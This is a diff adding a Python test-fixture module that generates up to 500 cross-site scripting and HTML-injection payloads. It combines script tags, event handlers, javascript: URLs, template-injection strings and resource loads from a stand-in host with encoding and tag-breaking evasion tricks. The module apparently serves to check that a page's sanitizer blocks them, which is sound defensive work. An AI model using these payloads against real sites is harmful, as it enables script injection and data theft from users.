@@ -1,0 +1,67 @@
+"""Texts that would run or fetch something where a page took them for more than text."""
+
+from collections.abc import Callable
+
+RUN = "pwn()"  # counted by the test
+AWAY = "//foreign.example"  # a request to it is counted
+
+ATTEMPTS = (
+    f"<script>{RUN}</script>",
+    f"<script src={AWAY}/a.js></script>",
+    f"<img src=x onerror={RUN}>",
+    f"<img src={AWAY}/a.png>",
+    f"<svg onload={RUN}>",
+    f"<iframe src=javascript:{RUN}>",
+    f"<iframe srcdoc='<script>{RUN}</script>'>",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"[x](javascript:{RUN})",
+    f"![x]({AWAY}/b.png)",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<body onload={RUN}>",
+    f"<style>@import '{AWAY}/c.css'</style>",
+    f"<link rel=stylesheet href={AWAY}/d.css>",
+    f"<meta http-equiv=refresh content=0;url={AWAY}>",
+    f"<object data={AWAY}/e></object>",
+    f"<form action={AWAY}><button autofocus>x",
+    f"<math><mi href=javascript:{RUN}>x",
+    "{{constructor.constructor('" + RUN + "')()}}",
+    f"${{{RUN}}}",
+    f"javascript:{RUN}",
+    f"<embed src={AWAY}/f.swf>",
+    f"<svg><animate onbegin={RUN} attributeName=x>",
+    f"<img srcset={AWAY}/g.png>",
+    f"<table background={AWAY}/h.png>",
+    f"<template><img src=x onerror={RUN}></template>",
+)
+WAYS: tuple[Callable[[str], str], ...] = (
+    lambda text: text,
+    lambda text: f'">{text}',
+    lambda text: f"'>{text}",
+    lambda text: f"-->{text}",
+    lambda text: f"</p>{text}",
+    lambda text: f"</textarea>{text}",
+    lambda text: f"</title>{text}",
+    lambda text: f"</script>{text}",
+    lambda text: f"`{text}",
+    lambda text: f"*{text}*",
+    lambda text: f"&lt;{text}",
+    lambda text: text.replace("<", "<<"),
+    lambda text: text.replace("<", "&#60;"),
+    lambda text: text.replace("<", "%3C"),
+    lambda text: text.replace("<", "\\u003c"),
+    lambda text: text.replace("<", "\uff1c"),
+    lambda text: text.replace(" ", "/"),
+    lambda text: text.replace("javascript:", "java&#10;script:"),
+    lambda text: text.swapcase().replace(RUN.upper(), RUN),
+    lambda text: f"<![CDATA[{text}]]>",
+)
+
+
+def payloads(count: int) -> list[str]:
+    """That many of the 500, spread over attempts and ways, each with a number of its own."""
+    every = list(dict.fromkeys(way(attempt) for way in WAYS for attempt in ATTEMPTS))[:500]
+    # a step without a common factor: every attempt comes, and another one for each neighbour
+    return [f"{number} {every[number * 37 % len(every)]}" for number in range(count)]
